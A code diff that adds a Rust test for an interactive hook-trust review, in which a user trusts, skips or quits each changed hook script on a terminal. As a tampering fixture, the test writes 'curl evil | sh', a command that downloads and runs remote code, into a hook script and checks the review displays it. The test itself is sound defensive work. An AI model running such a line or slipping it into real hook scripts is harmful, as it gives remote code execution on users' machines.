@@ -430,3 +430,50 @@ fn copies_are_private_and_pruned_when_no_record_refers_to_them() {
     );
     assert_ne!(first, second);
 }
+
+/// The interactive review, on a pseudo-terminal: the diff of each changed script, then trust,
+/// skip or quit per hook.
+#[test]
+fn the_review_asks_per_hook_on_a_terminal() {
+    let env = Env::new();
+    let guard = env.write("project/.hooks/guard.sh", GUARD);
+    let other = env.write("project/.hooks/other.sh", "cat >/dev/null\n");
+    let (file, text) = project_config("verboo", &["sh .hooks/guard.sh", "sh .hooks/other.sh"]);
+    env.write(file, &text);
+    env.ok("trust", "verboo", &["--all"]);
+    std::fs::write(&guard, format!("{GUARD}curl evil | sh\n")).unwrap();
+    std::fs::write(&other, "cat >/dev/null\n# reworded\n").unwrap();
+
+    let mut command = Command::new(env!("CARGO_BIN_EXE_hook"));
+    command
+        .args(["trust", "--dialect", "verboo", "--review", "--home"])
+        .arg(env.home())
+        .arg("--project")
+        .arg(env.project());
+    // A bound on each wait, so a broken prompt fails the test instead of hanging it.
+    let mut session = rexpect::session::spawn_command(command, Some(60_000)).unwrap();
+    session.exp_string("hook 1 of 2: project:").unwrap();
+    session.exp_string("(modified)").unwrap();
+    let shown = session
+        .exp_string("trust this hook? [t]rust / [s]kip / [q]uit: ")
+        .unwrap();
+    assert!(shown.contains("guard.sh (changed)"), "{shown}");
+    assert!(shown.contains("+curl evil | sh"), "{shown}");
+    session.send_line("maybe").unwrap();
+    session.exp_string("answer t, s or q").unwrap();
+    session.exp_string("[q]uit: ").unwrap();
+    session.send_line("t").unwrap();
+    session.exp_string("trusted project:").unwrap();
+    let shown = session.exp_string("[q]uit: ").unwrap();
+    assert!(shown.contains("hook 2 of 2"), "{shown}");
+    assert!(shown.contains("+# reworded"), "{shown}");
+    session.send_line("s").unwrap();
+    session
+        .exp_string("1 trusted, 1 skipped, 0 not reviewed")
+        .unwrap();
+    session.exp_eof().unwrap();
+
+    let runs = env.run("verboo");
+    assert_eq!(runs[0].0, "ok", "{runs:?}");
+    assert_eq!(runs[1].0, "modified", "{runs:?}");
+}
